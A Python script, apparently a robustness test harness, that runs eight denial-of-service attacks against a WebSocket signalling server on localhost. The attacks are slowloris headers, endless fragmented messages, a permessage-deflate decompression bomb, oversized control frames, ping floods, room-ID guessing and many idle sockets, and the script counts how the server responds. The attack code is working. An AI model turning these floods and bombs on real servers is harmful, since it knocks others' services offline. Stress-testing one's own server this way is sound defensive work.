#!/usr/bin/env python3
"""Attacks a signalling server, from addresses 127.0.1.1 and up: attacker.py ATTACK PORT [ROOM].

Says "ready" once it is at work, and goes on until its standard input ends; then says what became of it as one line of JSON. It steps back a little behind
everything else on this computer, so that what is measured beside it is the server and not the attacker.

SPDX-License-Identifier: GPL-3.0-or-later
"""

import asyncio
import base64
import json
import logging
import os
import resource
import struct
import sys

ADDRESSES = 4
MANY = 90  # sockets of one address: all that it may have, less a few that come and go
MANY_ADDRESSES = 56  # five thousand sockets
GUESSES = 100_000
GUESS_ADDRESSES = 8

UPGRADE = ('GET /ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n'
           'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n')
FIN, RSV1, CONTINUATION, TEXT, CLOSE, PING, PONG = 0x80, 0x40, 0, 1, 8, 9, 10


def frame(first, payload):
    length = len(payload)
    if length < 126:
        size = bytes([0x80 | length])
    elif length < 65536:
        size = struct.pack('>BH', 0x80 | 126, length)
    else:
        size = struct.pack('>BQ', 0x80 | 127, length)
    return bytes([first]) + size + bytes(4) + payload  # a mask of zeros is a mask


class Attack:
    def __init__(self, port, room):
        self.port = port
        self.room = room
        self.counts = {}
        self.finished = asyncio.Event()

    def count(self, what, n=1):
        self.counts[what] = self.counts.get(what, 0) + n

    async def connect(self, address):
        reader, writer = await asyncio.open_connection('127.0.0.1', self.port, local_addr=(f'127.0.1.{1 + address}', 0))
        self.count('connected')
        return reader, writer

    async def open(self, address, extra=''):
        reader, writer = await self.connect(address)
        writer.write((UPGRADE + extra + '\r\n').encode())
        head = await reader.readuntil(b'\r\n\r\n')
        if not head.startswith(b'HTTP/1.1 101'):
            raise ConnectionError
        self.count('opened')
        return reader, writer

    async def again_and_again(self, address, attack):
        """Whatever the server does about it, once more; not faster than a socket can be refused."""
        while not self.finished.is_set():
            writer = None
            try:
                writer = await attack(address)
            except (OSError, EOFError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                self.count('ended')
            finally:
                if writer is not None:
                    writer.close()
            await asyncio.sleep(0.02)

    async def drain_to_end(self, reader):
        while await reader.read(65536):
            pass
        self.count('ended')

    # --- Attacks, each one socket's life ---------------------------------------------------------------------------------

    async def fragments(self, address):
        """A message without end."""
        reader, writer = await self.open(address)
        writer.write(frame(TEXT, b'a' * 60_000))
        for _ in range(5000):
            writer.write(frame(CONTINUATION, b'a' * 60_000))
            self.count('bytes', 60_000)
            await writer.drain()
        return writer

    async def slow_loris(self, address):
        """The head of a request, a byte now and then."""
        reader, writer = await self.connect(address)
        end = asyncio.ensure_future(self.drain_to_end(reader))
        try:
            for byte in UPGRADE.encode():
                if end.done():
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(0.2)
        finally:
            end.cancel()
        return writer

    async def silent(self, address):
        reader, writer = await self.connect(address)
        await self.drain_to_end(reader)
        return writer

    async def deflate(self, address):
        """Says to be compressed: 60 MB of nothing in 60 kB."""
        reader, writer = await self.open(address, 'Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n')
        writer.write(frame(FIN | RSV1 | TEXT, b'\xec\xc1\x01\x01\x00\x00\x00\x80\x90\xfe\xaf\xee\x08\x0a' + bytes(60_000)))
        await self.drain_to_end(reader)
        return writer

    async def control_frames(self, address):
        reader, writer = await self.open(address)
        kind = (PING, PONG, CLOSE)[self.counts['opened'] % 3]
        writer.write(frame(FIN | kind, b'p' * 60_000))
        await self.drain_to_end(reader)
        return writer

    async def pings(self, address):
        """Small and honest ones, as many as go."""
        reader, writer = await self.open(address)
        end = asyncio.ensure_future(self.drain_to_end(reader))
        pings = frame(FIN | PING, b'p' * 100) * 100
        try:
            while not end.done() and not self.finished.is_set():
                writer.write(pings)
                self.count('pings', 100)
                await writer.drain()
        finally:
            end.cancel()
        return writer

    async def converse(self, address, make_room, payload):
        """Asks for rooms until the server has enough; what it answered is counted."""
        reader, writer = await self.open(address)
        try:
            while not self.finished.is_set():
                batch = 16
                for _ in range(batch):
                    text = json.dumps({'v': 1, 'type': 'knock', 'room': make_room(), 'payload': payload})
                    writer.write(frame(FIN | TEXT, text.encode()))
                self.count('asked', batch)
                for _ in range(batch):
                    first, length = await reader.readexactly(2)
                    if length == 126:
                        length, = struct.unpack('>H', await reader.readexactly(2))
                    body = await reader.readexactly(length)
                    if first & 15 == TEXT:
                        answer = json.loads(body)
                        self.count(f'{answer["type"]} {answer.get("reason", "")}'.strip())
                    elif first & 15 == CLOSE:
                        raise EOFError
        finally:
            writer.close()
        return writer

    async def guesses(self, address):
        def make_room():
            return base64.urlsafe_b64encode(os.urandom(16)).decode().rstrip('=')

        if self.counts.get('asked', 0) >= GUESSES:
            self.finished.set()
            raise EOFError
        return await self.converse(address, make_room, 'aGVsbG8')

    async def knocks(self, address):
        """At a door that is there; what is sealed in it is nonsense."""
        return await self.converse(address, lambda: self.room, 'a' * 4000)


ATTACKS = {
    # Name: how many addresses, and sockets of each.
    'fragments': (ADDRESSES, 2),
    'slow_loris': (ADDRESSES, MANY),
    'silent': (MANY_ADDRESSES, MANY),
    'deflate': (ADDRESSES, 2),
    'control_frames': (ADDRESSES, 2),
    'pings': (ADDRESSES, 2),
    'guesses': (GUESS_ADDRESSES, 60),
    'knocks': (ADDRESSES, 8),
}


async def read_to_end(stream):
    reader = asyncio.StreamReader()
    await asyncio.get_running_loop().connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), stream)
    await reader.read()


async def main():
    name, port, room = sys.argv[1], int(sys.argv[2]), (sys.argv + [''])[3]
    addresses, sockets = ATTACKS[name]
    attack = Attack(port, room)
    tasks = [asyncio.ensure_future(attack.again_and_again(address, getattr(attack, name)))
             for address in range(addresses) for _ in range(sockets)]
    print('ready', flush=True)
    told_to_end = asyncio.ensure_future(read_to_end(sys.stdin))
    finished = asyncio.ensure_future(attack.finished.wait())
    await asyncio.wait([told_to_end, finished], return_when=asyncio.FIRST_COMPLETED)
    if finished.done():
        print('finished', flush=True)
        await told_to_end
    attack.finished.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(attack.counts), flush=True)


if __name__ == '__main__':
    os.nice(5)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    logging.disable()  # asyncio says when a socket has been closed: that is what they are there for
    asyncio.run(main())
